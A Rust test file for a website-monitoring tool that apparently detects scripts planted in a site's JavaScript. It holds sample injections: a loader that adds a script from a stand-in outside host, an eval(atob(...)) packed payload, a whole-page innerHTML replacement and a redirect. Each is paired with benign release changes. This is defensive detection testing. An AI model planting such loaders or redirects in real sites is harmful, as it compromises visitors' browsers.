//! The page's own scripts.

use std::fmt::Write;

use frontwatch_core::verdict::Verdict;

use crate::common::front;
use crate::site::{SCRIPT, Site};

const LOADER: &str = "var s=document.createElement('script');s.src='https://static.pixel-orchard.example/j.js';document.head.appendChild(s);";

/// A bundle of this build: names change with each, and what it does stays.
fn bundle(build: u32) -> String {
    let mut code = String::from("/*! bundle */");
    for n in 0..2500_u32 {
        let name = |salt: u32| {
            format!("{}{}", char::from(b'a' + ((n * 7 + salt * build) % 26) as u8), (n * 31 + salt + build * 17) % 997)
        };
        write!(code, "function {}({}){{return {}.map(function(x){{return x+{n}}})}}", name(1), name(2), name(2))
            .unwrap();
        if n % 400 == 0 {
            code.push_str(
                "var t=document.createElement('script');t.async=1;document.body.appendChild(t);el.innerHTML=html;",
            );
        }
    }
    code
}

fn changed(before: &str, after: &str) -> (Verdict, Vec<String>) {
    let mut site = Site::new();
    site.put("/js/site.js", before);
    for n in 0..6 {
        let (verdict, kinds) = site.see(&front(n));
        assert!(verdict != Verdict::Alarm && kinds.is_empty(), "{kinds:?}");
    }
    site.put("/js/site.js", after);
    site.judge(&front(5))
}

#[test]
fn what_is_new_in_a_script_is_what_counts() {
    use Verdict::{Alarm, Normal};
    let (one, two) = (bundle(1), bundle(2));
    let table = [
        (SCRIPT, format!("{SCRIPT}{LOADER}"), Alarm, "planted.loads"),
        (SCRIPT, format!("{LOADER}{SCRIPT}"), Alarm, "planted.loads"),
        (one.as_str(), format!("{one}{LOADER}"), Alarm, "planted.loads"),
        (&one, format!("{}{LOADER}{}", &one[..80_000], &one[80_000..]), Alarm, "planted.loads"),
        (&one, format!("{one};eval(atob('YWxlcnQoMSk7YWxlcnQoMik='));"), Alarm, "planted.packed"),
        (SCRIPT, format!("{SCRIPT}document.documentElement.innerHTML=atob('PGgxPg==');"), Alarm, "planted.replaces"),
        (SCRIPT, format!("{SCRIPT}location.href='//static.pixel-orchard.example/';"), Alarm, "planted"),
        // Releases.
        (&one, two.clone(), Normal, ""),
        (&one, format!("{two}{}", "fetch('/api/weather').then(show);"), Normal, ""),
        (SCRIPT, format!("{SCRIPT}document.querySelector('.menu').classList.add('ready');"), Normal, ""),
        (&one, format!("{one}gtag('event','x');s.src='https://www.googletagmanager.com/gtm.js';"), Normal, ""),
        (SCRIPT, format!("{SCRIPT}fetch('/api/live').then(function(r){{return r.json()}});"), Normal, ""),
    ];
    let mut wrong = Vec::new();
    for (n, (before, after, verdict, kind)) in table.iter().enumerate() {
        let (said, kinds) = changed(before, after);
        if said != *verdict || !kind.is_empty() && !kinds.iter().any(|said| said.starts_with(kind)) {
            wrong.push((n, verdict, said, kinds));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_new_bundle_that_reaches_a_stranger_is_no_alarm_by_itself() {
    let (verdict, kinds) = changed(&bundle(1), &format!("{}{LOADER}", bundle(2)));
    assert!(verdict == Verdict::Suspect, "{kinds:?}");
}

#[test]
fn builds_take_turns_and_stay_quiet() {
    let mut site = Site::learned();
    for n in 6..16 {
        site.put("/js/site.js", bundle(1 + u32::try_from(n).unwrap() % 2));
        let (verdict, kinds) = site.see(&front(n));
        assert_eq!(verdict, Verdict::Normal, "{n}: {kinds:?}");
    }
}

#[test]
fn a_new_script_file_is_judged_by_what_it_does() {
    for (code, alarm) in [(LOADER, true), (SCRIPT, false)] {
        let mut site = Site::learned();
        site.put("/uploads/x.js", code);
        let page = front(5).replace("</head>", "<script src=\"/uploads/x.js\"></script></head>");
        let (verdict, kinds) = site.judge(&page);
        assert_eq!(verdict == Verdict::Alarm, alarm, "{kinds:?}");
    }
}
